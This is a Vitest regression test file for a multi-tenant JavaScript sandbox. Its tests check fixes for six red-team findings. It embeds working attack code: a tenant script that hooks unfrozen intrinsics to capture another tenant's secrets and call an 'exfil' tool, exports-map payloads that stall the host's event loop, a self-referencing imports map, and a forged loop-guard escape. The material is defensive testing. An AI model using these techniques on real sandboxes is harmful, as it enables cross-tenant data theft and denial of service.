import { afterAll, describe, expect, it } from "vitest";
import { cleanupTenants, longestStall, makeRuntime, makeTenant, safeJson } from "../helpers.js";

/*
 * Red-team round on issue 12 (Node's surface in the realm, library profile, code generation, resolution).
 * Every test here asserts the SECURE behaviour: each one failed on b98e9d4 because of the finding it names;
 * all six are fixed (F1 also on main, where the override-mistake originals were already left unfrozen).
 * Findings, most severe first (details in the red-team report):
 *
 *   F1 cross-tenant: hardening leaves the values behind the "override mistake" accessors unfrozen
 *      (harden.ts enable(): Object.prototype.hasOwnProperty/toString/..., Function.prototype.call/apply/
 *      bind/toString, every %TypedArray%.prototype method, the wrappers' toString/valueOf/toJSON). They are
 *      shared by every invocation and tenant a realm serves, so tenant A hangs its own function on them
 *      (`Object.prototype.hasOwnProperty.call = spy`, no reflection needed, passes STRICT) and that function
 *      later runs inside tenant B's invocation: it reads B's arguments, B's context, B's buffers, and calls
 *      tools as B.
 *   F2 host main thread DoS: a package.json exports map of ~44k pattern keys (1 MiB) makes every
 *      resolution on the host's main thread O(keys) (package-exports.ts matchPackageMap/matchIn), outside
 *      the file-system budget: 100 specifiers stall the host's event loop for seconds (500: ~21 s).
 *   F3 contract: an `imports` map that points at itself ("#a" -> "#b" -> "#a") overflows the host's
 *      stack in resolveSpecifier/viaImports: execute() rejects with a bare RangeError.
 *   F4 contract: library code that requires "module" makes placeholderSource() throw a TypeError on the
 *      host (Node's module builtin is a function): execute() rejects with it.
 *   F6 host main thread DoS + memory: an exports target with 200,000 `*` (a 200 KB package.json) and one
 *      400-character subpath: matchPackageMap expands it (split("*").join(subpath)) into an 80 M-character
 *      string on the host's main thread, then path.join and stat it: seconds of stall, ~700 MB host RSS
 *      (a 1 MB package.json and four such requires: 26 s stall, 3.1 GB host RSS).
 *   F5 guards: generated code's `with` scope object is extensible and reachable as `this` of a function
 *      called through the with binding: forging `__tenantbox_b` on it disables the loop guards (only the
 *      worker's hard stop ends the loop; the process is killed).
 */

afterAll(() => cleanupTenants());

const lib = (source: string) => ({ "node_modules/lib/package.json": '{ "name": "lib", "main": "index.js" }', "node_modules/lib/index.js": source });

describe("F1: tenant A's code runs inside tenant B's invocations through intrinsics hardening left unfrozen", () => {
  // One sandbox process, so that B's call lands on the realm A's call used (as it does under any load).
  const toolLog: { folder: string; name: string; args: string }[] = [];
  const runtime = makeRuntime({
    maxThreads: 1,
    minThreads: 1,
    securityLevel: "STRICT",
    scoringGate: false,
    toolHandler: async (name, args, ctx) => {
      toolLog.push({ folder: ctx.folder, name, args: JSON.stringify(args) });
      return { ok: true };
    },
  });
  afterAll(() => runtime.close());

  const attacker = makeTenant({
    "main.js": `// No reflection, no computed names: passes STRICT.
exports.plant = () => {
  const hop = Object.prototype.hasOwnProperty;
  const loot = [];
  // The override-mistake setter of Function.prototype.call defines an own "call" on the (unfrozen) function.
  hop.call = function (self, key) {
    loot.push({ self: self, key: key, context: globalThis.context });
    try { callTool("exfil", { stolen: self }); } catch (e) {}
    return hop.apply(self, [key]);
  };
  hop.loot = loot;
  const set = Uint8Array.prototype.set;
  const bytes = [];
  set.call = function (target, source, offset) {
    bytes.push(Array.from(source).map((b) => String.fromCharCode(b)).join(""));
    return set.apply(target, [source, offset]);
  };
  set.loot = bytes;
  return [Object.isFrozen(hop), Object.isFrozen(set)];
};
exports.harvest = () => [Object.prototype.hasOwnProperty.loot, Uint8Array.prototype.set.loot];
`,
  });

  const victim = makeTenant({
    "main.js": `exports.f = (apiKey) => {
  const record = { apiKey: apiKey, owner: "tenant-b" };
  const has = Object.prototype.hasOwnProperty.call(record, "apiKey");
  const joined = Buffer.concat([Buffer.from("card=4111-1111-1111-1111;")]);
  return [has, joined.length];
};
`,
  });

  it("the functions behind the accessors of Object.prototype, Function.prototype and %TypedArray%.prototype are frozen", async () => {
    const probe = makeTenant({
      "main.js": `exports.f = () => {
  const holders = { "Object.prototype": Object.prototype, "Function.prototype": Function.prototype, "%TypedArray%.prototype": Object.getPrototypeOf(Uint8Array.prototype), "Date.prototype": Date.prototype, "Error.prototype": Error.prototype };
  const out = [];
  for (const name of Object.keys(holders)) {
    const h = holders[name];
    for (const k of Object.getOwnPropertyNames(h)) {
      const d = Object.getOwnPropertyDescriptor(h, k);
      if (!d.get) continue;
      let v; try { v = d.get.call(h); } catch (e) { continue; }
      if (typeof v === "function" && Object.isExtensible(v)) out.push(name + "." + k);
    }
  }
  return out;
};`,
    });
    // The probe itself uses reflection: run it at PERMISSIVE (the attack below passes STRICT).
    const permissive = makeRuntime({ maxThreads: 1, minThreads: 1, securityLevel: "PERMISSIVE" });
    const r = await permissive.execute({ folder: probe, file: "main.js", funcName: "f" }).finally(() => permissive.close());
    expect(r.success, safeJson(r)).toBe(true);
    expect(r.success && r.value, "extensible shared intrinsics").toEqual([]);
  });

  it("A's hook does not see B's arguments, context or bytes, and calls no tool as B", async () => {
    // Contained, planting fails (the shared functions are frozen); either way B must see nothing of A.
    // B must land on the realm A planted in: a realm is dropped now and then (a busy machine's heap check, a
    // retired process), so A plants again and B runs again until B runs on a realm that served before.
    let reused = false;
    for (let attempt = 0; attempt < 10 && !reused; attempt++) {
      const planted = await runtime.execute({ folder: attacker, file: "main.js", funcName: "plant" });
      expect(planted.success || planted.error?.code === "RUNTIME_ERROR", safeJson(planted)).toBe(true);
      const b = await runtime.execute({
        folder: victim,
        file: "main.js",
        funcName: "f",
        args: ["sk-live-B-SECRET"],
        context: { user: "bob@b.example", sessionToken: "B-CONTEXT-TOKEN" },
      });
      expect(b.success, safeJson(b)).toBe(true);
      reused = b.stats.realmUses > 1;
    }
    expect(reused, "B ran on the realm A used").toBe(true);
    const harvest = await runtime.execute({ folder: attacker, file: "main.js", funcName: "harvest" });
    const text = safeJson(harvest) + safeJson(toolLog);
    expect(text.includes("sk-live-B-SECRET"), `B's argument reached A: ${text.slice(0, 600)}`).toBe(false);
    expect(text.includes("B-CONTEXT-TOKEN"), `B's context reached A: ${text.slice(0, 600)}`).toBe(false);
    expect(text.includes("4111-1111"), `B's buffer bytes reached A: ${text.slice(0, 600)}`).toBe(false);
    expect(toolLog.filter((t) => t.folder === victim && t.name === "exfil"), "A's code called a tool in B's invocation").toEqual([]);
  });
});

describe("F2: a 1 MiB exports map makes every resolution O(keys) on the host's main thread", () => {
  const runtime = makeRuntime({ maxThreads: 1, minThreads: 1, timeout: 5000 });
  afterAll(() => runtime.close());

  it("100 requires into a package with 44,000 exports patterns do not stall the host", async () => {
    const exportsMap: Record<string, string> = {};
    for (let i = 0; i < 44_000; i++) exportsMap[`./a${i}/*`] = "./x.js";
    let main = "";
    for (let j = 0; j < 100; j++) main += `require("big/a${j}/y");\n`;
    const folder = makeTenant({
      "node_modules/big/package.json": JSON.stringify({ name: "big", exports: exportsMap }),
      "node_modules/big/x.js": "module.exports = 1;\n",
      "main.js": main + "exports.f = () => 1;\n",
    });
    // Warm the pool first: process start is not what is measured.
    await runtime.execute({ folder: makeTenant({ "w.js": "exports.f = () => 1;" }), file: "w.js", funcName: "f" });
    let result: Awaited<ReturnType<typeof runtime.execute>> | undefined;
    const stall = await longestStall(async () => {
      result = await runtime.execute({ folder, file: "main.js", funcName: "f" });
    });
    expect(result?.success, safeJson(result)).toBe(true);
    expect(stall, "longest stall of the host's event loop (ms)").toBeLessThan(500);
  }, 120_000);
});

describe("F3/F4: tenant files make execute() reject with host errors instead of a typed result", () => {
  const runtime = makeRuntime({ maxThreads: 1, minThreads: 1 });
  afterAll(() => runtime.close());

  /** A typed result, or how execute() rejected (which it must not). */
  async function outcomeOf(folder: string): Promise<string> {
    try {
      const r = await runtime.execute({ folder, file: "main.js", funcName: "f" });
      return r.success ? `value ${safeJson(r.value)}` : `error ${r.error.code}`;
    } catch (error) {
      return `execute() rejected: ${(error as Error)?.constructor?.name}: ${(error as Error)?.message}`;
    }
  }

  it("F3: an imports map that points at itself resolves to MODULE_NOT_FOUND (no host stack overflow)", async () => {
    const folder = makeTenant({
      "package.json": JSON.stringify({ name: "t", imports: { "#a": "#b", "#b": "#a" } }),
      "main.js": `exports.f = () => { try { return require("#a"); } catch (e) { return e.code; } };`,
    });
    expect(await outcomeOf(folder)).not.toMatch(/rejected/);
  });

  it("F4: a library that requires Node's module builtin gets a placeholder (or MODULE_NOT_FOUND), not a host TypeError", async () => {
    const folder = makeTenant({
      ...lib(`let m; try { m = require("module"); } catch (e) { m = e.code; } module.exports = typeof m;`),
      "main.js": `exports.f = () => require("lib");`,
    });
    expect(await outcomeOf(folder)).not.toMatch(/rejected/);
  });
});

describe("F5: generated code forges its guards on the with-scope object", () => {
  const runtime = makeRuntime({ maxThreads: 1, minThreads: 1, securityLevel: "STANDARD", timeout: 300 });
  afterAll(() => runtime.close());

  it("an infinite loop inside with (data) after writing __tenantbox_b on the scope object ends through the guards, not the hard stop", async () => {
    const folder = makeTenant({
      ...lib(`module.exports = () => {
  const data = { grab() { return this; } };
  return Function("data", "with (data) { var scope = grab(); scope['__tenant' + 'box_b'] = { n: 1e15, l: 1e15 }; for (;;) {} }")(data);
};`),
      "main.js": `exports.f = () => require("lib")();`,
    });
    const r = await runtime.execute({ folder, file: "main.js", funcName: "f", timeout: 300 });
    expect(r.success).toBe(false);
    expect(!r.success && r.error.code).toBe("TIMEOUT");
    expect(!r.success && r.error.details?.hardStop, "the hard stop had to end it: the guards in generated code were forged").not.toBe(true);
  });
});

describe("F6: an exports target full of `*` expands into a huge string on the host's main thread", () => {
  const runtime = makeRuntime({ maxThreads: 1, minThreads: 1, timeout: 5000 });
  afterAll(() => runtime.close());

  it("one require of a 400-character subpath through a 200,000-star target does not stall the host", async () => {
    const folder = makeTenant({
      "node_modules/st/package.json": JSON.stringify({ name: "st", exports: { "./*": "./" + "*".repeat(200_000) } }),
      "main.js": `try { require("st/${"a".repeat(400)}"); } catch (e) {}\nexports.f = () => 1;\n`,
    });
    await runtime.execute({ folder: makeTenant({ "w.js": "exports.f = () => 1;" }), file: "w.js", funcName: "f" });
    const stall = await longestStall(() => runtime.execute({ folder, file: "main.js", funcName: "f" }));
    expect(stall, "longest stall of the host's event loop (ms)").toBeLessThan(500);
  }, 120_000);
});
